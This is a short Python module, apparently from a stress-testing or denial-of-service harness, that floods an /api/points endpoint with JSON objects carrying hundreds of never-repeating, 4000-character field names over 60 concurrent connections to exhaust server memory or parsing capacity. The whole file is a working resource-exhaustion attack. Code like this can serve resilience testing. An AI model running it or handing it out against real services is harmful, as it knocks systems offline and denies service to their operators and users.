"""JSON with field names that never repeat."""
from swarm import READ, Swarm, post

FIELDS = 240


def attack(target, deadline):
    def script(number):
        i = 0
        while True:
            fields = []
            for _ in range(FIELDS):
                i += 1
                fields.append(f'"{number}.{i}.'.ljust(4000, "n") + '":1')
            body = ("[{" + ",".join(fields) + "}]").encode()
            yield post("/api/points", len(body), "application/json") + body
            yield READ
    Swarm(target.http, 60, script, addresses=target.addresses).run(deadline)
